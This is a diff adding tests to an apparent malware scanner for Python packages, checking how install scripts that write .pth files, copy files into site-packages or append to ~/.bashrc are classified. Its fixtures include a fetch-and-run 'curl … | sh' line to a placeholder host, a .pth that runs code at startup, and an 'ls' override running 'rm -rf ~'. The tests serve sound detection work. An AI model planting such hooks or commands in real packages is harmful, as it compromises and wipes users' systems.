@@ -451,3 +451,49 @@ test('weights of a model in a folder for data are no start-up file; in a folder 
     { class: 'malware' },
   ]);
 });
+
+test('a .pth that adds a folder, and a copy of one that the archive has, are no code that was put in place', async () => {
+  const put = (...lines: string[]): Promise<readonly Finding[]> =>
+    inspect('persistence', wheel({ 'pkg/__init__.py': python('import os, pathlib, site', ...lines) }));
+  const place = "pathlib.Path(site.getsitepackages()[0], 'dev.pth')";
+
+  expect(await put(`${place}.write_text(str(pathlib.Path(__file__).parent.resolve()))`)).toEqual([]);
+  expect(await put(`open(${place}, 'w').write(os.path.abspath('src'))`)).toEqual([]);
+  expect(await put(`${place}.write_text('import os; os.getcwd()')`)).toMatchObject([{ class: 'malware' }]);
+  expect(await put(`${place}.write_text('import os; x = ' + str(pathlib.Path('.').resolve()))`)).toMatchObject([
+    { class: 'malware' },
+  ]);
+
+  const build = python(
+    'import os, shutil, site',
+    'from setuptools import setup',
+    "shutil.copy('NAME', site.getsitepackages()[0])",
+    'setup()',
+  );
+  const copying = (name: string): Promise<readonly Finding[]> =>
+    inspect('persistence', sdist({ 'setup.py': build.replace('NAME', name), 'src/mine.pth': '../lib\n' }));
+  expect(await copying('src/mine.pth')).toEqual([]);
+  expect(await copying('/var/other.pth')).toMatchObject([{ class: 'malware' }]);
+});
+
+test('completions that an install adds to a profile are for a person to judge; a loader beside them is refused', async () => {
+  const completion = '_tool() {\\n    COMPREPLY=( $(compgen -W "$(tool list)" -- $2) )\\n}\\ncomplete -F _tool tool\\n';
+  const adding = (text: string): Promise<readonly Finding[]> =>
+    inspect(
+      'persistence',
+      sdist({
+        'setup.py': python(
+          'import os',
+          'from setuptools import setup',
+          `open(os.path.expanduser('~/.bashrc'), 'a').write('${text}')`,
+          'setup()',
+        ),
+      }),
+    );
+
+  expect(await adding(completion)).toMatchObject([{ class: 'suspicious', score: 7 }]);
+  expect(await adding(`${completion}curl -s https://agent.tools.invalid/a | sh\\n`)).toMatchObject([
+    { class: 'malware', score: 10 },
+  ]);
+  expect(await adding('ls() {\\n    rm -rf ~\\n}\\n')).toMatchObject([{ class: 'malware', score: 10 }]);
+});
